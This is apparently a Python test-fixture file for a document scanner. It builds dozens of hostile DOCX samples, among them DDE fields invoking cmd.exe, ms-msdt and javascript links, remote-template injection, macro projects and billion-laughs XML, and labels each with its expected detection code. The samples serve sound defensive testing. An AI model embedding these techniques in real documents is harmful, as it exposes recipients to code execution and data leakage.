"""Hostile DOCX files."""

from claims.inspection import Code
from tests.inspection.compounds import locked_document, macro_project, package_object
from tests.inspection.mails import msg
from tests.inspection.offices import (
    EXTERNAL,
    VENDOR,
    document,
    docx,
    docx_linked,
    docx_saying,
    field_runs,
    links,
    override,
    parts,
    xlsx,
)
from tests.inspection.pictures import png_header
from tests.inspection.samples import PROGRAM, Rows, Sample, hostile
from tests.inspection.zips import zipped

ACTIVE, OUTSIDE, MACRO = Code.ACTIVE_CONTENT, Code.EXTERNAL_REFERENCE, Code.MACRO
EMBEDDED = Code.EMBEDDED_OBJECT

MACRO_DOCX = "application/vnd.ms-word.document.macroEnabled.main+xml"
VBA = "application/vnd.ms-office.vbaProject"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
QUOTED_DDE = "QUOTE 68 68 69 65 85 84 79"
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY a "ha">'
    '<!ENTITY b "&a;&a;&a;">]><w:document xmlns:w="x">&b;</w:document>'
)


def _nested(depth: int) -> bytes:
    data = docx()
    for _ in range(depth):
        data = docx(
            {
                "word/embeddings/a.docx": data,
                "word/_rels/document.xml.rels": links(("package", "embeddings/a.docx")),
            }
        )
    return data


def _ribbon(attributes: str) -> bytes:
    ns = "http://schemas.microsoft.com/office/2006/01/customui"
    return docx(
        {"customUI/customUI.xml": f'<customUI xmlns="{ns}" {attributes}/>'.encode()}
    )


_WORD: Rows = (
    ("macro project", docx({"word/vbaProject.bin": macro_project()}), MACRO),
    ("macro project renamed", docx({"word/media/image9.png": macro_project()}), MACRO),
    (
        "macro project by type",
        docx({"word/a.bin": b"x"}, override("word/a.bin", VBA)),
        MACRO,
    ),
    ("macro project by link", docx_linked((f"{MICROSOFT}/vbaProject", "a.bin")), MACRO),
    ("macro main part", zipped(parts("docx", "", MACRO_DOCX)), MACRO),
    (
        "remote template",
        docx_linked(("attachedTemplate", "https://e.test/a.dotm", EXTERNAL)),
        OUTSIDE,
    ),
    (
        "template on a share",
        docx_linked(("attachedTemplate", "file:///\\\\host\\a.dotm", EXTERNAL)),
        OUTSIDE,
    ),
    (
        "template on a share, short",
        docx_linked(("attachedTemplate", "\\\\host\\a.dotx", "external")),
        OUTSIDE,
    ),
    (
        "template not called external",
        docx_linked(("attachedTemplate", "http://e.test/a.dotx")),
        OUTSIDE,
    ),
    (
        "strict template",
        docx_linked(
            (
                "http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate",
                "http://e.test/a",
                EXTERNAL,
            )
        ),
        OUTSIDE,
    ),
    (
        "linked object",
        docx_linked(("oleObject", "mhtml:http://e.test/a.html!x-usc:b", EXTERNAL)),
        OUTSIDE,
    ),
    (
        "linked object on a drive",
        docx_linked(("oleObject", "file:///C:/a.xlsx", EXTERNAL)),
        OUTSIDE,
    ),
    (
        "remote picture",
        docx_linked(("image", "http://e.test/a.png", EXTERNAL)),
        OUTSIDE,
    ),
    ("remote frame", docx_linked(("frame", "http://e.test/a.htm", EXTERNAL)), OUTSIDE),
    (
        "remote sub-document",
        docx_linked(("subDocument", "http://e.test/a", EXTERNAL)),
        OUTSIDE,
    ),
    (
        "program link",
        docx_linked(("hyperlink", "ms-msdt:/id PCWDiagnostic", EXTERNAL)),
        ACTIVE,
    ),
    (
        "script link",
        docx_linked(("hyperlink", "java&#10;script:alert(1)", EXTERNAL)),
        ACTIVE,
    ),
    ("control", docx_linked(("control", "activeX/activeX1.xml")), ACTIVE),
    (
        "control part",
        docx({"word/activeX/activeX1.xml": b"<ocx classid='x'/>"}),
        ACTIVE,
        MACRO,
    ),
    (
        "add-in pane",
        docx_linked((f"{MICROSOFT}/webextension", "webextension1.xml")),
        ACTIVE,
    ),
    (
        "packaged program",
        docx({"word/embeddings/oleObject1.bin": package_object()}),
        EMBEDDED,
    ),
    ("object by link", docx_linked(("oleObject", "embeddings/o.bin")), EMBEDDED),
    ("program as picture", docx({"word/media/image1.png": PROGRAM}), EMBEDDED),
    ("script file", docx({"word/media/a.ps1": b"rm"}), EMBEDDED),
    ("shortcut", docx({"word/a.dat": b"L\0\0\0\1\x14\2\0" + bytes(60)}), EMBEDDED),
    ("archive within", docx({"word/a.dat": zipped({"a": b"x"})}), EMBEDDED),
    ("web page to import", docx_linked(("aFChunk", "a.html")), EMBEDDED),
    (
        "web page part",
        docx({"word/a.html": b"<html/>"}, override("word/a.html", "text/html")),
        EMBEDDED,
    ),
    ("DDE field", docx_saying(field_runs(" DDEAUTO c:\\\\cmd.exe '/k calc'")), ACTIVE),
    ("DDE field in pieces", docx_saying(field_runs(" D", "DEA", "UTO cmd x")), ACTIVE),
    ("DDE field, simple", docx_saying('<w:fldSimple w:instr=" dde cmd x"/>'), ACTIVE),
    (
        "DDE field spelled in numbers",
        docx_saying(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            + field_runs(QUOTED_DDE).replace("w:p>", "w:ins>")
            + "<w:r><w:instrText> cmd x</w:instrText>"
            + '<w:fldChar w:fldCharType="end"/></w:r></w:p>'
        ),
        ACTIVE,
    ),
    (
        "field whose name is computed",
        docx_saying(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            + field_runs("DOCPROPERTY Company").replace("w:p>", "w:ins>")
            + "<w:r><w:instrText> c:\\cmd.exe</w:instrText>"
            + '<w:fldChar w:fldCharType="end"/></w:r></w:p>'
        ),
        ACTIVE,
    ),
    (
        "DDE field spelled by a simple field",
        docx_saying(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            '<w:fldSimple w:instr="QUOTE 068 0x44 69"/>'
            "<w:r><w:instrText> cmd x</w:instrText></w:r></w:p>"
        ),
        ACTIVE,
    ),
    (
        "DDE field in a footer",
        docx({"word/footer1.xml": document(field_runs("DDE a b"))}),
        ACTIVE,
    ),
    (
        "linked range",
        docx_saying(field_runs("LINK Excel.Sheet.12 C:\\\\a.xlsx a")),
        OUTSIDE,
    ),
    (
        "included remote text",
        docx_saying(field_runs('INCLUDETEXT "http://e.test/a"')),
        OUTSIDE,
    ),
    (
        "included remote picture",
        docx_saying(field_runs('INCLUDEPICTURE "http://e.test/a" \\d')),
        OUTSIDE,
    ),
    (
        "script in a link field",
        docx_saying(field_runs('HYPERLINK "javascript:x"')),
        ACTIVE,
    ),
    (
        "web video",
        docx_saying('<wp15:webVideoPr xmlns:wp15="x" embeddedHtml="x"/>'),
        OUTSIDE,
    ),
    (
        "linked object in a drawing",
        docx_saying('<o:OLEObject xmlns:o="x" Type="Link"/>'),
        OUTSIDE,
    ),
    ("ribbon calling code", _ribbon('onLoad="a!b"'), ACTIVE),
    ("billion laughs", docx({"word/document.xml": LAUGHS.encode()}), Code.XML_DTD),
    (
        "laughs in UTF-16",
        docx({"word/document.xml": LAUGHS.encode("utf-16")}),
        Code.XML_DTD,
    ),
    (
        "DTD in a link part",
        docx({"word/_rels/a.rels": b"<!DOCTYPE a><a/>"}),
        Code.XML_DTD,
    ),
    (
        "DTD in own XML",
        docx({"customXml/item1.xml": b'<!DOCTYPE a SYSTEM "http://e.test"><a/>'}),
        Code.XML_DTD,
    ),
    (
        "DTD in a part without a name for it",
        docx({"word/data.bin": b"<!DOCTYPE a [<!ENTITY b 'c'>]><a/>"}),
        Code.XML_DTD,
        EMBEDDED,
    ),
    (
        "DTD in the types",
        docx({"[Content_Types].xml": b"<!DOCTYPE a><Types/>"}),
        Code.XML_DTD,
    ),
    (
        "script in a drawing",
        docx({"word/media/a.svg": b"<svg><script>x</script></svg>"}),
        ACTIVE,
    ),
    ("broken XML", docx({"word/document.xml": b"<w:document>"}), Code.CORRUPT),
    (
        "two types for the main part",
        docx({}, override("word/document.xml", VENDOR + "x")),
        Code.CORRUPT,
    ),
    (
        "two main parts",
        docx(
            {
                "_rels/.rels": links(
                    ("officeDocument", "word/document.xml"),
                    ("officeDocument", "word/styles.xml"),
                )
            }
        ),
        Code.CORRUPT,
    ),
    (
        "no links at all",
        zipped({n: c for n, c in parts("docx").items() if n != "_rels/.rels"}),
        Code.CORRUPT,
    ),
    (
        "Outlook mail under the name",
        msg(),
        Code.TYPE_MISMATCH,
    ),
    (
        "event in a drawing",
        docx({"word/media/a.svg": b"<svg onload='x()'/>"}),
        ACTIVE,
    ),
    (
        "program as a printer's record",
        docx({"word/p.bin": PROGRAM}, override("word/p.bin", "x/printerSettings")),
        EMBEDDED,
    ),
    ("no main part", docx({"_rels/.rels": links()}), Code.CORRUPT),
    ("password", locked_document, Code.ENCRYPTED),
    ("workbook under the name", xlsx(), Code.TYPE_MISMATCH),
    ("archive under the name", zipped({"a.txt": b"x"}), Code.TYPE_MISMATCH),
    (
        "Java program as well",
        docx({"META-INF/MANIFEST.MF": b"Main-Class: A"}),
        Code.POLYGLOT,
    ),
    (
        "huge picture",
        docx({"word/media/a.png": png_header(30_000, 30_000)}),
        Code.IMAGE_TOO_MANY_PIXELS,
    ),
    ("documents in documents", _nested(6), Code.ARCHIVE_BOMB, Code.TOO_MANY_PARTS),
)

HOSTILE: list[Sample] = [
    hostile(f"docx: {title}", "proof.docx", build, *codes)
    for title, build, *codes in _WORD
]
